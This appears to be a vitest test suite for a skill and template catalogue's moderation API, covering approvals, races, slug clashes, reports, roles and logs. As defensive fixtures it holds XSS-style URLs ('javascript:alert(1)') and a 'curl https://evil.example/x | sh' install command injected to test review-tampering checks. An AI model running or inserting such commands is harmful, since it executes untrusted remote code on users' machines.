import { afterAll, beforeAll, expect, test } from 'vitest'
import { openWorld, type Person, type World } from './people.ts'

let world: World
let ann: Person
let mia: Person
let max: Person
let admin: Person
beforeAll(async () => {
  world = await openWorld()
  ann = await world.signUp('ann')
  ;[mia, max, admin] = [await world.withRole('moderator'), await world.withRole('moderator'), await world.withRole('admin')]
})
afterAll(() => world.close())

const rpc = (person: Person, name: string, args: object) => world.ask(person, 'POST', `/rest/v1/rpc/${name}`, args)
const full = {
  name: 'Glossary', slug: 'ann-glossary', summary: 'Keeps words', description: '# Words', category: ['data', 'global'], runtime: ['node'], support: ['claude', 'mcp'], complexity: 'advanced',
  license: 'Apache-2.0', price: 'mixed', status: 'experimental', version: '1.2.3', repoUrl: 'https://example.com/repo', installCli: 'npx x', installMcp: ' ', installClaude: '',
  permissions: ['network'], riskNotes: [], io: { input: { a: 'string' }, output: {} }, nameEn: 'Glossary in English',
  installInputs: [{ name: 'KEY', isSecret: true, isRequired: true, choices: [], hint: 'h' }],
}

async function submit(content: object = full, type = 'skill', person = ann): Promise<string> {
  const { body } = await world.ask(person, 'POST', '/rest/v1/user_submissions', { user_id: person.id, type, title: 'A title', content }, { prefer: 'return=representation' })
  return (body as { id: string }[])[0]?.id ?? ''
}
const state = async (id: string) => (await world.rows(`select status, rejection_reason, reviewed_at is not null as reviewed from user_submissions where id = '${id}'`))[0]
const log = (what: string) => world.rows(`select act, actor, person, detail from moderation_log where ${what} order by at`)
const opsOf = async (person: Person, scope: string, after: number) => {
  const { body } = await rpc(person, 'sync_pull', { p_scope: scope, p_after: after, p_epoch: null })
  return body as { head: number; ops: [number, string, string, Record<string, unknown> | null][] }
}

test('an approved skill has every field of the form, reaches anonymous devices by the feed, and its submitter hears of it', async () => {
  const before = { all: (await opsOf(world.visitor, 'catalog', 0)).head, own: (await opsOf(ann, `u:${ann.id}`, 0)).head }
  const id = await submit()
  const { status, body } = await rpc(mia, 'approve_submission', { p_id: id })
  expect({ status, body }).toMatchObject({ status: 200, body: { item_type: 'skill', slug: 'ann-glossary' } })
  const item = (body as { item_id: string }).item_id
  const news = (await opsOf(world.visitor, 'catalog', before.all)).ops.filter(([seq]) => seq > before.all)
  expect(news).toMatchObject([[before.all + 1, 'skills', item, {
    name: 'Glossary', name_en: 'Glossary in English', slug: 'ann-glossary', author: 'ann', summary: 'Keeps words', description: '# Words', category: ['data', 'global'], runtimes: ['node'], supports: ['claude', 'mcp'],
    complexity: 'advanced', license: 'Apache-2.0', price: 'mixed', status: 'experimental', version: '1.2.3', repo_url: 'https://example.com/repo', homepage: null, install_cli: 'npx x',
    install_mcp: null, install_claude: null, install_inputs: full.installInputs, permissions: ['network'], risk_notes: [], io: { input: { a: 'string' } }, is_featured: false, is_verified: false, submitted_by: ann.id,
  }]])
  expect((await opsOf(ann, `u:${ann.id}`, before.own)).ops.at(-1)).toMatchObject([expect.any(Number), 'user_submissions', id, { status: 'approved', rejection_reason: null }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toEqual([{ act: 'submission.approved', actor: mia.id, person: ann.id, detail: { submission: id, title: 'A title', slug: 'ann-glossary' } }])
})

test('an approved template is there with what a template has', async () => {
  const id = await submit({ name: 'Letter', slug: 'ann-letter', description: 'A letter', content: '  Dear ${name},\n', category: ['utilities'], tags: ['mail'] }, 'template')
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({ status: 200, body: { item_type: 'template' } })
  expect(await world.rows("select name, content, category, tags, is_featured, submitted_by from templates where slug = 'ann-letter'"))
    .toEqual([{ name: 'Letter', content: '  Dear ${name},\n', category: ['utilities'], tags: ['mail'], is_featured: false, submitted_by: ann.id }])
})

test('two moderators who approve at once make one skill, and the second is told', async () => {
  const id = await submit({ ...full, slug: 'raced' })
  const answers = await Promise.all([rpc(mia, 'approve_submission', { p_id: id }), rpc(max, 'approve_submission', { p_id: id })])
  expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 409]))
  expect(answers.find(({ status }) => status === 409)?.body).toMatchObject({ hint: 'already-decided', details: 'approved' })
  expect(await world.rows("select count(*)::integer as n from skills where slug like 'raced%'")).toEqual([{ n: 1 }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toHaveLength(1)
  expect(await rpc(max, 'reject_submission', { p_id: id, p_reason: 'too late' })).toMatchObject({ status: 409, body: { hint: 'already-decided' } })
  expect(await state(id)).toEqual({ status: 'approved', rejection_reason: null, reviewed: true })
})

test('a taken slug is refused by its name, and the submission stays pending', async () => {
  const id = await submit({ ...full, slug: 'browser-pilot' })
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({ status: 409, body: { hint: 'slug-taken', details: 'browser-pilot', message: 'The slug "browser-pilot" is taken' } })
  expect(await state(id)).toEqual({ status: 'pending', rejection_reason: null, reviewed: false })
  expect(await log(`detail ->> 'submission' = '${id}'`)).toEqual([])
})

test('content that breaks a rule of the catalogue makes nothing', async () => {
  const broken = [
    { repoUrl: 'javascript:alert(1)' }, { homepage: 'data:text/html,x' }, { screenshots: ['javascript:alert(1)'] }, { slug: 'Upper' }, { slug: '' }, { name: '' }, { category: [] }, { category: ['nonsense'] },
    { category: 'data' }, { price: 'gift' }, { license: '<script>' }, { summary: 'x'.repeat(201) }, { runtime: { a: 1 } }, { permissions: [''] },
  ]
  for (const [n, change] of broken.entries()) {
    const id = await submit({ ...full, slug: `broken-${n}`, ...change })
    if (id === '') continue // the table itself has refused it
    expect(await rpc(mia, 'approve_submission', { p_id: id }), JSON.stringify(change)).toMatchObject({ status: 422, body: { hint: 'invalid-content' } })
    expect(await state(id)).toMatchObject({ status: 'pending' })
  }
  expect(await world.rows("select slug from skills where slug like 'broken-%'")).toEqual([])
})

test('what the submitter changed after the moderator looked is not approved unseen', async () => {
  const id = await submit({ ...full, slug: 'swapped' })
  const { body } = await world.ask(mia, 'GET', `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`)
  const seen = (body as { updated_at: string }[])[0]?.updated_at
  await world.run(`update user_submissions set content = content || '{"installCli": "curl https://evil.example/x | sh"}' where id = '${id}'`)
  for (const call of [() => rpc(mia, 'approve_submission', { p_id: id, p_seen: seen }), () => rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x', p_seen: seen })]) {
    expect(await call()).toMatchObject({ status: 409, body: { hint: 'changed-meanwhile' } })
  }
  const again = await world.ask(mia, 'GET', `/rest/v1/user_submissions?id=eq.${id}&select=updated_at`)
  expect(await rpc(mia, 'approve_submission', { p_id: id, p_seen: (again.body as { updated_at: string }[])[0]?.updated_at })).toMatchObject({ status: 200 })
})

test('a rejection needs a reason, which the submitter reads and the log keeps', async () => {
  const id = await submit({ ...full, slug: 'rejected' })
  for (const reason of ['', '   ', '\n\t', '　']) expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: reason })).toMatchObject({ status: 400, body: { hint: 'reason-required' } })
  expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: 'x'.repeat(2001) })).toMatchObject({ status: 400 })
  expect(await rpc(mia, 'reject_submission', { p_id: id, p_reason: ' 描述太短 ' })).toMatchObject({ status: 204 })
  const { body } = await world.ask(ann, 'GET', `/rest/v1/user_submissions?id=eq.${id}&select=status,rejection_reason`)
  expect(body).toEqual([{ status: 'rejected', rejection_reason: '描述太短' }])
  expect(await log(`detail ->> 'submission' = '${id}'`)).toMatchObject([{ act: 'submission.rejected', actor: mia.id, person: ann.id, detail: { reason: '描述太短' } }])
  expect(await rpc(mia, 'approve_submission', { p_id: id })).toMatchObject({ status: 409, body: { details: 'rejected' } })
  expect(await rpc(mia, 'approve_submission', { p_id: '00000000-0000-4000-8000-000000000000' })).toMatchObject({ status: 404, body: { hint: 'not-found' } })
})

test('marks and deletions are written down, by whichever way they come', async () => {
  await world.run("insert into skills (id, slug, name, summary, description, category) values ('00000000-0000-4000-8000-0000000000c1', 'marked', 'Marked', 's', 'd', '{data}')")
  const item = { p_item_type: 'skill', p_item_id: '00000000-0000-4000-8000-0000000000c1' }
  await rpc(mia, 'mark_item', { ...item, p_mark: 'featured', p_on: true })
  await rpc(mia, 'mark_item', { ...item, p_mark: 'featured', p_on: true }) // no change, no line
  await world.ask(max, 'PATCH', `/rest/v1/skills?id=eq.${item.p_item_id}`, { is_featured: false, is_verified: true })
  await world.ask(max, 'DELETE', `/rest/v1/skills?id=eq.${item.p_item_id}`)
  expect(await rpc(mia, 'delete_item', item)).toMatchObject({ status: 404, body: { hint: 'not-found' } })
  expect(await rpc(mia, 'mark_item', { ...item, p_mark: 'verified', p_on: true })).toMatchObject({ status: 404 })
  expect(await rpc(mia, 'mark_item', { p_item_type: 'template', p_item_id: item.p_item_id, p_mark: 'verified', p_on: true })).toMatchObject({ status: 400 })
  const lines = await log(`item_id = '${item.p_item_id}'`)
  expect(lines.map(({ act, actor }) => [act, actor])).toEqual([['item.featured', mia.id], ['item.unfeatured', max.id], ['item.verified', max.id], ['item.deleted', max.id]])
  expect(lines.at(-1)).toMatchObject({ detail: { name: 'Marked', slug: 'marked' } })
})

test('the last administrator keeps the role, also when two take it from each other at once', async () => {
  expect(await rpc(admin, 'remove_role', { p_user: admin.id, p_role: 'admin' })).toMatchObject({ status: 409, body: { hint: 'last-admin' } })
  expect(await world.ask(admin, 'DELETE', '/rest/v1/user_roles?role=eq.admin')).toMatchObject({ status: 409 })
  const second = await world.signUp()
  await rpc(admin, 'add_role', { p_user: second.id, p_role: 'admin' })
  await rpc(admin, 'add_role', { p_user: second.id, p_role: 'admin' }) // again: still one
  expect(await world.ask(admin, 'DELETE', '/rest/v1/user_roles?role=eq.admin')).toMatchObject({ status: 409 })
  await Promise.all([rpc(admin, 'remove_role', { p_user: second.id, p_role: 'admin' }), rpc(second, 'remove_role', { p_user: admin.id, p_role: 'admin' })])
  const left = await world.rows<{ user_id: string }>("select user_id from user_roles where role = 'admin'")
  expect(left).toHaveLength(1)
  await world.run(`insert into user_roles (user_id, role) values ('${admin.id}', 'admin') on conflict do nothing`)
  expect((await log(`person = '${second.id}'`)).map(({ act, detail }) => [act, detail]).slice(0, 1)).toEqual([['role.added', { role: 'admin', username: expect.any(String) as string }]])
})

test('a report reaches moderators and nobody else, is closed once, and goes with its item', async () => {
  const bob = await world.signUp('bob')
  await world.run("insert into skills (id, slug, name, summary, description, category) values ('00000000-0000-4000-8000-0000000000c2', 'reported', 'Reported', 's', 'd', '{data}')")
  const item = { p_item_type: 'skill', p_item_id: '00000000-0000-4000-8000-0000000000c2' }
  expect(await rpc(bob, 'report_item', { ...item, p_reason: ' ' })).toMatchObject({ status: 400, body: { hint: 'reason-required' } })
  expect(await rpc(bob, 'report_item', { ...item, p_item_id: bob.id, p_reason: 'x' })).toMatchObject({ status: 404 })
  await rpc(bob, 'report_item', { ...item, p_reason: 'first words' })
  await rpc(bob, 'report_item', { ...item, p_reason: 'steals passwords' })
  await rpc(ann, 'report_item', { ...item, p_reason: 'a copy of mine' })
  const open = await rpc(mia, 'admin_reports', {})
  expect(open.body).toMatchObject({ total: 2, rows: [{ item_name: 'Reported', item_slug: 'reported', reason: 'steals passwords', username: 'bob' }, { reason: 'a copy of mine', username: 'ann' }] })
  expect((await world.ask(ann, 'GET', '/rest/v1/reports?select=reason')).body).toEqual([{ reason: 'a copy of mine' }])
  const [first] = (open.body as { rows: { id: string }[] }).rows
  const both = await Promise.all([rpc(mia, 'decide_report', { p_id: first?.id, p_status: 'dismissed' }), rpc(max, 'decide_report', { p_id: first?.id, p_status: 'resolved' })])
  expect(new Set(both.map(({ status }) => status))).toEqual(new Set([204, 409]))
  expect(await log(`detail ->> 'report' = '${first?.id}'`)).toHaveLength(1)
  await rpc(max, 'delete_item', item)
  expect((await rpc(mia, 'admin_reports', {})).body).toEqual({ total: 0, rows: [] })
  expect((await rpc(mia, 'admin_reports', { p_status: null })).body).toMatchObject({ total: 2 })
})

test('nobody floods the moderators with reports', async () => {
  const bot = await world.signUp()
  await world.run(`insert into skills (slug, name, summary, description, category) select 'flood-' || n, 'n', 's', 'd', '{data}' from generate_series(1, 21) n`)
  const rows = await world.rows<{ id: string }>("select id from skills where slug like 'flood-%'")
  const statuses = []
  for (const { id } of rows) statuses.push((await rpc(bot, 'report_item', { p_item_type: 'skill', p_item_id: id, p_reason: 'x' })).status)
  expect(statuses).toEqual([...Array.from({ length: 20 }, () => 204), 429])
})

test('lists come a page at a time, searched, with the total, however many there are', async () => {
  await world.run(`
    alter table auth.users disable trigger user;
    insert into auth.users (id, email) select gen_random_uuid(), 'many-' || n || '@example.com' from generate_series(1, 3000) n;
    alter table auth.users enable trigger user;
    insert into profiles (id, username, full_name, created_at) select id, replace(email, '@example.com', ''), '100%_' || email, now() - interval '1 day' from auth.users where email like 'many-%'`)
  const users = async (args: object) => (await rpc(mia, 'admin_users', args)).body as { total: number; rows: { username: string; roles: string[] }[] }
  const all = await users({})
  expect(all.rows).toHaveLength(20)
  expect(all.total).toBeGreaterThan(3000)
  expect((await users({ p_page: 2 })).rows[0]?.username).not.toBe(all.rows[0]?.username)
  expect((await users({ p_size: 100_000 })).rows).toHaveLength(100)
  expect(await users({ p_search: 'MANY-2999' })).toMatchObject({ total: 1, rows: [{ username: 'many-2999', roles: [] }] })
  // no pattern: a percent sign is a percent sign
  expect((await users({ p_search: '%' })).total).toBe(3000)
  expect((await users({ p_search: 'nobody_here%' })).rows).toEqual([])
  expect(await users({ p_role: 'admin' })).toMatchObject({ total: 1, rows: [{ roles: ['admin'] }] })
  expect((await users({ p_page: 99_999 })).rows).toEqual([])
  expect((await rpc(mia, 'admin_items', { p_item_type: 'skill', p_search: 'flood' })).body).toMatchObject({ total: 0 })
  expect((await rpc(mia, 'admin_items', { p_item_type: 'template', p_search: 'A LETTER' })).body).toMatchObject({ total: 1, rows: [{ slug: 'ann-letter', tags: ['mail'], is_verified: false }] })
})

test('the queue has the oldest first, everything else the newest, and no content', async () => {
  const list = async (args: object) => (await rpc(mia, 'admin_submissions', args)).body as { total: number; rows: { created_at: string; status: string }[] }
  const pending = (await list({ p_status: 'pending' })).rows
  expect(pending.map(({ created_at }) => created_at)).toEqual(pending.map(({ created_at }) => created_at).toSorted())
  const all = (await list({})).rows
  expect(all.map(({ created_at }) => created_at)).toEqual(all.map(({ created_at }) => created_at).toSorted().toReversed())
  expect(all[0]).not.toHaveProperty('content')
  expect(all[0]).toMatchObject({ username: 'ann', type: 'skill' })
  expect((await list({ p_search: 'ANN-GLOSSARY' })).total).toBe(1)
  expect((await rpc(mia, 'admin_counts', {})).body).toMatchObject({ pending: (await list({ p_status: 'pending' })).total, approved: 4, reports: expect.any(Number) as number })
})

test('an admin reads the log, newest first, with the names', async () => {
  const { body } = await rpc(admin, 'admin_log', { p_size: 5 })
  const { total, rows } = body as { total: number; rows: { at: string; actor: string | null }[] }
  expect(total).toBeGreaterThan(5)
  expect(rows).toHaveLength(5)
  expect(rows.map(({ at }) => at)).toEqual(rows.map(({ at }) => at).toSorted().toReversed())
  expect(rows.every(({ actor }) => actor !== null)).toBe(true)
})
